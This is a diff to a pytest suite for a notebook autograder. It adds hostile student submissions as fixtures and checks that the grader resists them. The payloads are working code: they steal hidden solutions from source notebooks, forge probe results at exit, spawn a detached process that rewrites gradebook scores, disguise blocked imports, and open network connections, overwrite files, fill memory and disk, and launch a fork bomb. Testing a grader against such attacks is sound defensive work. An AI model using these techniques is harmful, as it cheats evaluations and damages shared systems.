@@ -6,11 +6,13 @@ test cells, a submission that monkeypatches what the tests call (which fools pla
 nbgrader, as asserted here too), and one that looks for the hidden tests on disk.
 """
 
+import hashlib
 import json
 import pathlib
 import shutil
 import subprocess
 import sys
+import time
 
 import nbformat
 import pytest
@@ -221,9 +223,111 @@ def hw1_scores(course, tmp_path_factory):
         "['pass\\n'])  # empties every later cell"
     )
     submission(course, HW1, "monkeypatch", folder, wrong, extra_after=monkeypatch)
+    for student, (answers, attack) in attacks(course).items():
+        submission(course, HW1, student, folder, answers, extra_after=attack)
     homework.collect(course, HW1, folder)
-    trusted = homework.autograde(course, HW1, cell_timeout=15, probe_timeout=60)
-    return trusted, gradebook_scores(course, HW1)
+    before = tree(course)
+    trusted = homework.autograde(course, HW1, cell_timeout=15, probe_timeout=60, jobs=2)
+    time.sleep(ATTACK_DELAY + 5)  # a detached writer would have struck by now
+    return trusted, gradebook_scores(course, HW1), before, tree(course)
+
+
+ATTACK_DELAY = 5
+ATTACKS = ("attack_steal", "attack_forge", "attack_writer", "attack_assembled", "attack_hostile")
+
+
+def attacks(course):
+    """Submissions that solve nothing honestly and attack the grader instead (each scored marks
+    while the graded code ran as the instructor, in the course folder)."""
+    course = str(course)
+    steal = f"""
+import json, os, pathlib, sys
+import mtml_lib.homework.pipeline as pipeline
+places = {{pathlib.Path({course!r}), pipeline.ROOT / "notebooks" / "homework"}}
+for module in list(sys.modules.values()):  # the grader module's file, wherever it is
+    if "grader" in str(getattr(module, "__file__", "")):
+        places.add(pathlib.Path(module.__file__).resolve().parent.parent)
+for pid in ("self", str(os.getppid()), "1"):  # paths on command lines
+    for arg in open(f"/proc/{{pid}}/cmdline").read().split(chr(0)):
+        places.update(pathlib.Path(arg).parents)
+for place in places:
+    for source in place.glob("source/*/*.ipynb"):
+        for cell in json.loads(source.read_text())["cells"]:
+            nbgrader = cell["metadata"].get("nbgrader", {{}})
+            if cell["cell_type"] == "code" and nbgrader.get("solution"):
+                exec("".join(cell["source"]), globals())
+"""
+    forge = f"""
+import atexit, glob, os
+def forge():  # at exit, put the reference probe data where the probe results go
+    for path in glob.glob({course!r} + "/graders/reference/*.json"):
+        data = open(path, "rb").read()
+        for fd in range(1, 64):
+            try:
+                os.write(fd, data)
+            except OSError:
+                pass
+atexit.register(forge)
+"""
+    script = (
+        f"import sqlite3, time\ntime.sleep({ATTACK_DELAY})\n"
+        f"db = sqlite3.connect({course + '/gradebook.db'!r})\n"
+        "db.execute('update grade set manual_score = 100')\ndb.commit()\n"
+    )
+    writer = f"""
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", {script!r}], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+    assembled = {
+        "multihead": "import importlib\nmodels = importlib.import_module('mtml_lib.models.' + "
+        "'condi' + 'tioning')\n\ndef MultiHeadModel(**kwargs):\n"
+        "    return models.get_conditioning('multihead', **kwargs)",
+        "uncertainty": "import importlib\nweights = importlib.import_module('mtml_lib.weighting.' "
+        "+ 'uncer' + 'tainty')\n\nclass MyUncertaintyWeighting(getattr(weights, "
+        "'Uncertainty' + 'Weighting')):\n    pass",
+    }
+    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
+    hostile = f"""
+import os, socket, subprocess, sys
+for address in [("1.1.1.1", 443), ("pypi.org", 443)]:  # the network
+    try:
+        socket.create_connection(address, timeout=3).sendall(b"my grades")
+    except OSError:
+        pass
+for path in ({course + "/gradebook.db"!r}, {course + "/graders/hw1_multitask.py"!r}):
+    try:  # files outside the scratch folder
+        open(path, "ab").write(b"x")
+    except OSError:
+        pass
+try:  # memory
+    hog = bytearray(64 * 1024**3)
+except MemoryError:
+    pass
+try:  # the disk
+    for i in range(100_000):
+        open(f"fill{{i}}", "wb").write(b"x" * 2**20)
+except OSError:
+    pass
+subprocess.Popen([sys.executable, "-c", {bomb!r}], start_new_session=True)  # a fork bomb
+"""
+    return {
+        "attack_steal": ({}, steal),
+        "attack_forge": ({}, forge),
+        "attack_writer": ({}, writer),
+        "attack_assembled": (assembled, None),
+        "attack_hostile": ({}, hostile),
+    }
+
+
+def tree(course):
+    """Every file of the course folder with its hash, less what autograde writes."""
+    written = {"autograded", "feedback", "reference", "gradebook.db"}
+    return {
+        str(path.relative_to(course)): hashlib.sha256(path.read_bytes()).hexdigest()
+        for path in sorted(course.rglob("*"))
+        if path.is_file() and not set(path.relative_to(course).parts) & written
+    }
 
 
 EXPECTED_HW1 = {
@@ -240,19 +344,37 @@ EXPECTED_HW1 = {
         "test_uncertainty": 0,
         "test_experiment": 0,
     },
+    **{
+        attack: {"test_multihead": 0, "test_film": 0, "test_uncertainty": 0, "test_experiment": 0}
+        for attack in ATTACKS
+    },
 }
 
 
 @pytest.mark.parametrize("student", sorted(EXPECTED_HW1))
 def test_hw1_scores_are_exact(hw1_scores, student):
-    trusted, gradebook = hw1_scores
+    trusted, gradebook, _, _ = hw1_scores
     assert trusted[student] == EXPECTED_HW1[student]
     # what the grade table shows
     assert gradebook[student]["final"] == sum(EXPECTED_HW1[student].values())
 
 
+def test_the_attacks_leave_the_course_folder_as_it_was(hw1_scores):
+    _, _, before, after = hw1_scores
+    assert after == before
+
+
+def test_the_library_version_is_refused_with_a_reason(course, hw1_scores):
+    graded = nbformat.read(
+        course / "autograded" / "attack_assembled" / HW1 / f"{HW1}.ipynb", as_version=4
+    )
+    text = json.dumps([c.outputs for c in graded.cells if c.cell_type == "code"])
+    assert "mtml_lib.weighting.uncertainty is not available while grading" in text
+    assert "mtml_lib.models.conditioning is not available while grading" in text
+
+
 def test_the_monkeypatch_fools_plain_nbgrader_but_not_the_trusted_grade(hw1_scores):
-    _, gradebook = hw1_scores
+    _, gradebook, _, _ = hw1_scores
     assert gradebook["monkeypatch"]["auto"] == 11  # in-kernel tests all "passed"
     assert gradebook["monkeypatch"]["final"] == 5
 
